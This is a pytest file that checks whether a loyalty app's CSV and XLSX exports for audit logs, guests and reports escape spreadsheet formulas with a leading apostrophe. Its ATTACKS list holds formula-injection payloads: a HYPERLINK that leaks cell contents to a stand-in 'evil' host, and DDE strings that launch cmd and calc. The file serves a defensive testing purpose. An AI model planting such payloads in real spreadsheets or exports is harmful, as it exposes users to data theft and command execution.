"""Every CSV and XLSX export writes its cells through maxloyalty.spreadsheets.safe_cell: text a spreadsheet would
run as a formula (=, +, -, @, tab, carriage return) is shown as typed, never evaluated; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.tokens import refresh_token_for
from analytics.metrics import Period
from analytics.reports import Table, tables_as_csv, tables_as_xlsx
from audit.services import record_audit
from guests.services import create_guest
from maxloyalty.spreadsheets import safe_cell
from tests.fixtures import api_on, signed_in_client

ATTACKS = [
    '=HYPERLINK("http://evil/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "plain",
        "",
        "a=b",
        "-5",
        "+79161234567",
        "+7 916 ***-**-67",
        "-12.50",
        5,
        -5,
        Decimal("-1.5"),
        2.5,
        None,
        dt.date(2026, 1, 1),
    ],
)
def test_numbers_phones_and_plain_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


def test_audit_log_csv_neutralises_formulas(alpha):
    for text in ATTACKS:
        record_audit(action="guest.changed", actor=alpha.user("owner"), reason=text, data={"note": "x"})
    cells = _cells(_csv(signed_in_client(alpha, "owner").get("/audit/export.csv")))
    for text in ATTACKS:
        assert "'" + text in cells
        assert text not in cells


@pytest.fixture
def formula_guest(alpha):
    return create_guest(
        access=None,
        phone="+79165550001",
        first_name=ATTACKS[0],
        last_name=ATTACKS[1],
        note=ATTACKS[3],
        tags=["@tag"],
        source="import",
    )


def test_guest_csv_pages_and_api_neutralise_formulas(alpha, formula_guest):
    api = api_on(alpha.host)
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {refresh_token_for(alpha.user('owner'), alpha.chain.id).access_token}")
    for rows in (
        _csv(signed_in_client(alpha, "owner").get("/guests/export.csv")),
        _csv(api.get("/api/v1/guests/export")),
    ):
        header, *body = rows
        row = dict(zip(header, next(r for r in body if r[0] == str(formula_guest.pk)), strict=True))
        assert (row["first_name"], row["last_name"], row["note"], row["tags"]) == (
            "'" + ATTACKS[0],
            "'" + ATTACKS[1],
            "'" + ATTACKS[3],
            "'@tag",
        )
        assert row["phone"] == "+79165550001"  # a phone number stays one


def test_guest_xlsx_neutralises_formulas(alpha, formula_guest):
    response = signed_in_client(alpha, "owner").get("/guests/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == str(formula_guest.pk))
    cells = dict(zip(header, row, strict=True))
    assert cells["first_name"].value == "'" + ATTACKS[0]
    assert all(cell.data_type != "f" for cell in row)  # nothing stored as a formula


def _report_tables():
    return [
        Table(
            slug="top",
            title="Top",
            header=["guest", "visits", "delta"],
            rows=[[text, 3, Decimal("-1.50")] for text in ATTACKS],
        )
    ]


def _period():
    return Period(start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 31), restaurant_ids=None)


def test_report_csv_neutralises_formulas_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(tables_as_csv(_report_tables(), _period()))))
    data = [row for row in rows if len(row) == 3 and row[1] == "3"]
    assert [row[0] for row in data] == ["'" + text for text in ATTACKS]
    assert {row[2] for row in data} == {"-1.50"}


def test_report_xlsx_neutralises_formulas_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(tables_as_xlsx(_report_tables(), _period())))["Top"]
    data = [row for row in sheet.iter_rows(min_row=3)]
    # XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    assert [row[0].value for row in data] == ["'" + text.replace("\r", "\n") for text in ATTACKS]
    assert all(row[0].data_type == "s" for row in data)
    assert {row[2].value for row in data} == {-1.5}
